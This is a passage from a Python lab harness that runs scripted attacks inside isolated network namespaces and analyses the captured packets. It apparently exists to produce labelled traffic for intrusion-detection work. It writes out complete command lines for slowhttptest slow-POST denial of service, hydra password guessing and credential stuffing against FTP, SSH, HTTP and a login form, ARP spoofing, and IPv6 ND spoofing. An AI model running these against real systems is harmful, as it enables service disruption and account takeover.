                   ["slowhttptest", "-B", "-c", str(self.n(100, 40)), "-r", "40", "-i", "5", "-s",
                    "8192", "-l", f"{slow:.0f}", "-x", "20", "-p", "3", "-u",
                    f"http://{victim}/upload"],
                   slow + 10, "slow POST: a large declared body sent a few bytes every 5 s "
                              "(slowhttptest -B)")
        self.pause(4)
        words = os.path.join(self.tmp, "words.txt")
        with open(words, "w") as f:
            f.write("\n".join(WORDS[:max(10, int(len(WORDS) * min(1.0, s)))]) + "\n")
        hydra = ["hydra", "-I", "-q", "-t", "4", "-w", "5", "-P", words]
        self.phase("brute_force", "brute", "hydra", hydra + ["-L", self._users(), f"ftp://{victim}"],
                   self.d(40, 15), "FTP password guessing (hydra ftp)")
        self.pause(3)
        if self.sshd:
            self.phase("brute_force", "brute", "hydra", hydra + ["-l", "root", f"ssh://{victim}"],
                       self.d(40, 15), "SSH password guessing (hydra ssh)")
            self.pause(3)
        elif "brute_force" in self.kinds:
            self.skipped.append("brute_force (SSH): openssh-server is not installed")
        self.phase("brute_force", "brute", "hydra",
                   hydra + ["-L", self._users(), f"http-get://{victim}/private"],
                   self.d(40, 15), "HTTP basic-auth password guessing (hydra http-get)")
        self.pause(3)
        combos = self._combos()
        stuffing = ["hydra", "-I", "-q", "-t", "4", "-w", "8", "-C", combos]
        if self.sshd:
            self.phase("credential_stuffing", "stuff", "hydra", stuffing + [f"ssh://{victim}"],
                       self.d(40, 12), "SSH credential stuffing: leaked user:password pairs "
                                       "(hydra -C ssh)")
            self.pause(3)
        elif "credential_stuffing" in self.kinds:
            self.skipped.append("credential_stuffing (SSH): openssh-server is not installed")
        self.phase("credential_stuffing", "stuff", "hydra",
                   stuffing + [f"http-post-form://{victim}/login:user=^USER^&pass=^PASS^:F=invalid"],
                   self.d(40, 12), "web login credential stuffing: leaked user:password pairs "
                                   "posted to /login (hydra -C http-post-form)")
        self.pause(3)
        target = L.BENIGN_CLIENTS[0]
        self.phase("arp_spoof", "arp", "arpspoof",
                   ["arpspoof", "-i", "eth0", "-t", target, "-r", victim], self.d(30, 8),
                   f"ARP spoofing: {target} and {victim} told that the other is at the attacker's "
                   "MAC, traffic forwarded (arpspoof -r)", dst=target, grace=8.0)
        self.pause(3)
        if "nd_spoof" in self.kinds and not D._python_has("scapy"):
            self.skipped.append("nd_spoof: python3-scapy is not installed")
        elif os.path.exists(D.DEBIAN_PYTHON):
            self.phase("nd_spoof", "nd", D.DEBIAN_PYTHON,
                       [D.DEBIAN_PYTHON, clients, "nd-spoof", "--iface", "eth0", "--src6",
                        L.ND_SPOOFER6, "--target6", L.VICTIM6, "--mac", self.hosts["nd"]["mac"],
                        "--seconds", f"{self.d(30, 8):.0f}"], self.d(30, 8) + 10,
                       f"IPv6 ND spoofing: unsolicited neighbour advertisements (override) to all "
                       f"nodes claiming {L.VICTIM6} is at the attacker's MAC (scapy)", dst="",
                       src=L.ND_SPOOFER6)
        for bg in background:
            self.finish(bg)
        self.pause(4)

    def _users(self):
        path = os.path.join(self.tmp, "users.txt")
        with open(path, "w") as f:
            f.write("admin\nroot\n")
        return path

    def _combos(self):
        """A 'leaked' list of user:password pairs (credential stuffing tries each pair once)."""
        rng = random.Random(self.seed + 99)
        users = ["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi", "ivan",
                 "judy", "mallory", "oscar", "peggy", "trent", "victor", "walter", "admin", "sam"]
        path = os.path.join(self.tmp, "combos.txt")
        n = max(20, int(60 * min(1.0, self.scale)))
        with open(path, "w") as f:
            for _ in range(n):
                user = rng.choice(users) + rng.choice(["", "", str(rng.randint(1, 99)), ".w"])
                f.write(f"{user}:{rng.choice(WORDS)}{rng.choice(['', '!', '1', '2024'])}\n")
        return path

    # --- run and teardown ---------------------------------------------------------------------

    def relay_summary(self):
        if not self.relay:
            return None
        self.stop(self.relay, grace=5.0)
        try:
            with open(self.relay_stats) as f:
                return json.load(f)
        except (OSError, ValueError):
            return None

    def close(self):
        for p in reversed(self.procs):
            try:
                self.stop(p, grace=2.0)
            except Exception as e:  # keep tearing down whatever else is left
                print(f"lab: could not stop process {p.pid}: {e}", file=sys.stderr)
        for ns in self.ns.values():
            _kill_namespace_processes(ns)
            subprocess.run(["ip", "netns", "del", ns], capture_output=True, timeout=30)
        self.ns = {}
        shutil.rmtree(self.tmp, ignore_errors=True)


LAB_NET4 = ipaddress.ip_network("10.77.0.0/16")
LAB_NETS6 = [ipaddress.ip_network(n) for n in ("fd77::/64", "fe80::/10", "ff00::/8", "::/128")]
MULTICAST4 = ipaddress.ip_network("224.0.0.0/4")


def _inside_lab(addr):
    a = ipaddress.ip_address(addr)
    if a.version == 4:
        return a in LAB_NET4 or a in MULTICAST4 or addr in ("255.255.255.255", "0.0.0.0")
    return any(a in n for n in LAB_NETS6)


def slaac(mac):
    """The address a host forms in fd77::/64 from its MAC (modified EUI-64)."""
    m = [int(x, 16) for x in mac.split(":")]
    return str(ipaddress.IPv6Address(L.PREFIX6 + "%02x%02x:%02xff:fe%02x:%02x%02x" % (
        m[0] ^ 2, m[1], m[2], m[3], m[4], m[5])))


def analyse(pcap, episodes, hosts):
    """Counts packets (by source, by protocol, per episode: from its source inside its window; for
    ARP and ND spoofing, frames from the attacker's MAC) and measures each host's link from the
    capture: the round trip from the server's SYN-ACK to the client's ACK (the capture is on the
    server's side of the WAN link) and the upstream loss of the monitor pings (missing sequence
    numbers)."""
    total, by_src, protocols = 0, {}, {"ipv4": 0, "ipv6": 0, "arp": 0, "other": 0}
    per_episode = [0] * len(episodes)
    outside = 0
    mac_of_src = {h["ipv4"]: h["mac"] for h in hosts.values()}
    mac_of_src.update({h["ipv6"]: h["mac"] for h in hosts.values() if h["ipv6"]})
    by_mac_kinds = {"arp_spoof", "nd_spoof"}
    ep_mac = [mac_of_src.get(e.src) if e.kind in by_mac_kinds else None for e in episodes]
    benign = {h["ipv4"] for h in hosts.values() if h["role"] == "benign"}
    synack = {}  # (client, client port) -> time of the server's SYN-ACK
    rtts = {}
    pings = {}  # client -> set of echo sequence numbers seen
    for ts, linktype, frame in read_pcap(pcap):
        total += 1
        info = frame_info(linktype, frame)
        if not info:
            protocols["other"] += 1
            continue
        ethertype, smac, src, dst, proto, l4 = info
        key = {0x0800: "ipv4", 0x86DD: "ipv6", 0x0806: "arp"}.get(ethertype, "other")
        protocols[key] += 1
        if src and key != "arp":
            by_src[src] = by_src.get(src, 0) + 1
            if not (_inside_lab(src) and _inside_lab(dst)):
                outside += 1
        for i, e in enumerate(episodes):
            if e.start <= ts <= e.end and (
                    (ep_mac[i] and smac == ep_mac[i]) or
                    (not ep_mac[i] and src and key != "arp" and e.matches_src(src))):
                per_episode[i] += 1
        if key in ("ipv4", "ipv6") and proto == 6 and l4 and len(frame) >= l4 + 14:
            sport, dport = struct.unpack_from("!HH", frame, l4)
            flags = frame[l4 + 13]
            if flags & 0x12 == 0x12:  # SYN-ACK from the server
                synack[(dst, dport)] = ts
            elif flags & 0x10 and not flags & 0x07 and (src, sport) in synack:
                rtts.setdefault(src, []).append(ts - synack.pop((src, sport)))
        elif key == "ipv4" and proto == 1 and l4 and len(frame) >= l4 + 8 and frame[l4] == 8:
            if dst == L.VICTIM and src in benign:
                pings.setdefault(src, set()).add(struct.unpack_from("!H", frame, l4 + 6)[0])
    links = {}
    for name, h in sorted(hosts.items()):
        m = {"profile": h["profile"], "configured": h.get("link")}
        r = sorted(rtts.get(h["ipv4"], []) + rtts.get(slaac(h["mac"]), []) +
                   (rtts.get(h["ipv6"], []) if h["ipv6"] else []))
        if r:
            m["handshake_rtt_ms"] = {"n": len(r), "p50": round(1000 * r[len(r) // 2], 2),
                                     "p10": round(1000 * r[len(r) // 10], 2),
                                     "p90": round(1000 * r[9 * len(r) // 10], 2)}
        seqs = pings.get(h["ipv4"])
        if seqs and len(seqs) > 10:
            expected = max(seqs) - min(seqs) + 1
            m["ping_upstream_loss"] = {"sent": expected, "lost": expected - len(seqs),
                                       "rate": round((expected - len(seqs)) / expected, 4)}
        links[name] = m
    return {"packets": total, "protocols": protocols, "packets_by_src": dict(sorted(by_src.items())),
            "packets_per_episode": per_episode, "packets_outside_lab_net": outside, "links": links}


def run(out_dir, scale, kinds, seed, benign_seconds=0.0):
    """Runs the real lab; returns (episodes, summary)."""
    Lab.check_requirements()
    os.makedirs(out_dir, exist_ok=True)
    lab = Lab(out_dir, scale, kinds, seed)

    def on_term(signum, _frame):
        raise KeyboardInterrupt(f"signal {signum}")

    previous = signal.signal(signal.SIGTERM, on_term)
    began = time.time()
    relay = None
    try:
        lab.create_network()
        lab.start_capture()
        lab.log(f"capturing every frame entering the switch ({lab.ns[SWITCH]}) -> {lab.pcap}")
        lab.start_servers()
        benign = lab.start_benign(int(600 * max(1, scale) + benign_seconds + 60))
        lab.schedule()
        if benign_seconds > 0:
            lab.log(f"benign traffic only for {benign_seconds:.0f} more s (--benign-seconds)")
            time.sleep(benign_seconds)
        for p in benign:
            lab.stop(p, grace=8.0)
        stats = lab.stop_capture()
        relay = lab.relay_summary()
    finally:
        signal.signal(signal.SIGTERM, previous)
        lab.close()
    services = {name: {k: v for k, v in s.items() if k != "proc"}
                for name, s in lab.services.items()}
    hosts = {name: {k: v for k, v in h.items() if k != "session_threads"}
             for name, h in lab.hosts.items()}
    summary = {"mode": "real", "seed": seed, "duration_scale": scale,
               "benign_seconds": benign_seconds,
               "wall_seconds": round(time.time() - began, 1), "tcpdump": stats,
               "tool_versions": tool_versions(), "services": services, "hosts": hosts,
               "relay": relay, "phases": lab.phases, "skipped": lab.skipped,
               "workdir": lab.tmp}
    episodes = sorted(lab.episodes, key=lambda e: (e.start, e.kind))
    summary.update(analyse(lab.pcap, episodes, lab.hosts))
    return episodes, summary
